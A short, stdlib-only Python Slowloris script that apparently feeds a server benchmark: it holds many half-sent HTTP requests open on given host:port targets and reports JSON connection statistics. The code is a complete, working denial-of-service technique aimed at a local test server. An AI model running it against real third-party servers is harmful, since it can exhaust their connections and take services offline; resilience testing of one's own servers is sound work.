#!/usr/bin/env python3
"""Slowloris against one or more ports, for bench/slowloris.sh (stdlib only).

Usage: slowloris.py SECONDS INTERVAL HOST:PORT:N [HOST:PORT:N ...]

Keeps N connections open on each HOST:PORT for SECONDS: each sends an unfinished request head,
then one more header line every INTERVAL seconds, never the blank line that ends the head. A
connection the server closes (or answers) is counted as cut and replaced at once by a new one,
so the server faces N slow connections per port the whole time. Prints one JSON object per
port: opened (connections made), cut (closed or answered by the server), refused (connect
failed), open_peak and open_last (slow connections open, sampled every second; the last sample
a second before the end), and answers (status lines the server sent before closing, counted).
"""
import asyncio
import json
import resource
import sys
import time

HEAD = b"GET /m/slow HTTP/1.1\r\nHost: 127.0.0.1\r\n"


async def one(host, port, interval, deadline, stats):
    while time.monotonic() < deadline:
        try:
            reader, writer = await asyncio.open_connection(host, port)
        except OSError:
            stats["refused"] += 1
            await asyncio.sleep(0.2)
            continue
        stats["opened"] += 1
        stats["open"] += 1
        try:
            writer.write(HEAD)
            await writer.drain()
            while time.monotonic() < deadline:
                try:
                    data = await asyncio.wait_for(reader.read(4096), timeout=interval)
                except asyncio.TimeoutError:
                    writer.write(b"X-Slow: 1\r\n")
                    await writer.drain()
                    continue
                if data.startswith(b"HTTP/"):
                    status = data.split(b"\r\n", 1)[0].decode("ascii", "replace")
                    stats["answers"][status] = stats["answers"].get(status, 0) + 1
                stats["cut"] += 1
                break
        except OSError:
            stats["cut"] += 1
        finally:
            stats["open"] -= 1
            writer.close()


async def main():
    seconds, interval = float(sys.argv[1]), float(sys.argv[2])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    deadline = time.monotonic() + seconds
    tasks, all_stats = [], {}
    for target in sys.argv[3:]:
        host, port, count = target.rsplit(":", 2)
        stats = {"opened": 0, "cut": 0, "refused": 0, "open": 0, "answers": {}}
        all_stats[f"{host}:{port}"] = stats
        tasks += [one(host, int(port), interval, deadline, stats) for _ in range(int(count))]
    async def sample():
        while time.monotonic() < deadline - 1:
            for stats in all_stats.values():
                stats["open_peak"] = max(stats.get("open_peak", 0), stats["open"])
                stats["open_last"] = stats["open"]
            await asyncio.sleep(1)

    await asyncio.gather(sample(), *tasks)
    for stats in all_stats.values():
        stats.pop("open")
    print(json.dumps(all_stats))


asyncio.run(main())
